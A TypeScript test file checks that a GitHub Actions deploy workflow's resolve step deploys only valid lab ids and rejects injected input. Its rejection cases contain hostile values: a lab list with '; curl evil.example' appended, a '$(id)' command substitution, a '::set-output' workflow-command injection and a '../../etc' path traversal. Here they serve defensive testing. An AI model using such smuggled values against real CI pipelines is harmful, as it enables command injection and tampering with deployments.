// deploy.yml's resolve step, run as GitHub runs it (bash -eo pipefail) with a stand-in `gh`: it deploys only the labs
// the trusted regrade listed as changed, and refuses a list that is anything but lab ids.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { REPO, tmpDir } from '../../helpers/tmp.js';
import { SLOW_PROCESS_TEST_TIMEOUT_MS } from '../../helpers/timeouts.js';

type Step = { id?: string; run?: string; with?: Record<string, string> };
type Workflow = { jobs: Record<string, { steps: Step[] }> };

const wf = parse(fs.readFileSync(path.join(REPO, '.github/workflows/deploy.yml'), 'utf8')) as Workflow;
const script = wf.jobs['resolve']!.steps.find((s) => s.id === 'pr')!.run!;
const HEAD = 'a'.repeat(40);
// bash and a stub: well under a second each, but the machine may be busy.
const STEP_TIMEOUT_MS = 20_000;

function resolve(opts: {
  event: 'workflow_run' | 'workflow_dispatch';
  changed?: string | undefined;
  dispatchLabs?: string;
}) {
  const temp = tmpDir();
  const art = path.join(temp, 'trusted-labs');
  fs.mkdirSync(art);
  fs.writeFileSync(path.join(art, 'pr-number'), '7\n');
  fs.writeFileSync(path.join(art, 'head-sha'), `${HEAD}\n`);
  if (opts.changed !== undefined) fs.writeFileSync(path.join(art, 'changed-labs'), opts.changed);
  const bin = path.join(temp, 'bin');
  fs.mkdirSync(bin);
  const pull = { state: 'open', base: { repo: { full_name: 'o/r' } }, head: { sha: HEAD } };
  fs.writeFileSync(path.join(bin, 'gh'), `#!/bin/sh\nprintf '%s' '${JSON.stringify(pull)}'\n`, {
    mode: 0o755,
  });
  const output = path.join(temp, 'output');
  const summary = path.join(temp, 'summary');
  fs.writeFileSync(output, '');
  let code = 0;
  let stdout = '';
  try {
    stdout = execFileSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
      encoding: 'utf8',
      timeout: STEP_TIMEOUT_MS,
      env: {
        PATH: `${bin}:${process.env['PATH']}`,
        RUNNER_TEMP: temp,
        GITHUB_OUTPUT: output,
        GITHUB_STEP_SUMMARY: summary,
        GH_TOKEN: 'x',
        REPO: 'o/r',
        EVENT: opts.event,
        DISPATCH_PR: opts.event === 'workflow_dispatch' ? '7' : '',
        DISPATCH_LABS: opts.dispatchLabs ?? '',
      },
    });
  } catch (e) {
    const err = e as { status: number; stdout: string };
    code = err.status;
    stdout = err.stdout;
  }
  const outputs = Object.fromEntries(
    fs
      .readFileSync(output, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );
  return { code, stdout, outputs };
}

describe("deploy.yml's resolve step", { timeout: SLOW_PROCESS_TEST_TIMEOUT_MS }, () => {
  it('deploys the labs the regrade listed as changed', { timeout: STEP_TIMEOUT_MS }, () => {
    const r = resolve({ event: 'workflow_run', changed: '03-ecs-service-alb\n05-ecr-registry\n' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toEqual({
      'pr-number': '7',
      'head-sha': HEAD,
      labs: '03-ecs-service-alb 05-ecr-registry',
    });
  });

  it('deploys nothing when the PR changed no lab', { timeout: STEP_TIMEOUT_MS }, () => {
    const r = resolve({ event: 'workflow_run', changed: '' });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('changed no lab; nothing to deploy');
    expect(r.outputs).toEqual({});
  });

  it.each([
    ['an incomplete file list', 'all\n'],
    ['an older regrade that wrote no list', undefined],
  ])('deploys every lab after %s', { timeout: STEP_TIMEOUT_MS }, (_, changed) => {
    const r = resolve({ event: 'workflow_run', changed });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs['labs']).toBe('all');
  });

  it.each([
    '03-ecs-service-alb; curl evil.example',
    '$(id)',
    '03-ecs-service-alb\n::set-output name=x::y',
    'ALL',
    '../../etc',
  ])('refuses a list that is not lab ids: %j', { timeout: STEP_TIMEOUT_MS }, (changed) => {
    const r = resolve({ event: 'workflow_run', changed });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("is not 'all' or lab ids; refusing to deploy");
    expect(r.outputs['labs']).toBeUndefined();
  });

  it(
    "takes the instructor's list on workflow_dispatch, commas or spaces",
    { timeout: STEP_TIMEOUT_MS },
    () => {
      const r = resolve({
        event: 'workflow_dispatch',
        dispatchLabs: '03-ecs-service-alb, 07-service-connect',
      });
      expect(r.code, r.stdout).toBe(0);
      expect(r.outputs['labs']).toBe('03-ecs-service-alb 07-service-connect');
    },
  );

  it("passes the list to the action's 'labs' input", () => {
    const deploy = wf.jobs['deploy']!.steps.find((s) => s.id === 'deploy')!;
    expect(deploy.with?.['labs']).toBe('${{ needs.resolve.outputs.labs }}');
  });
});
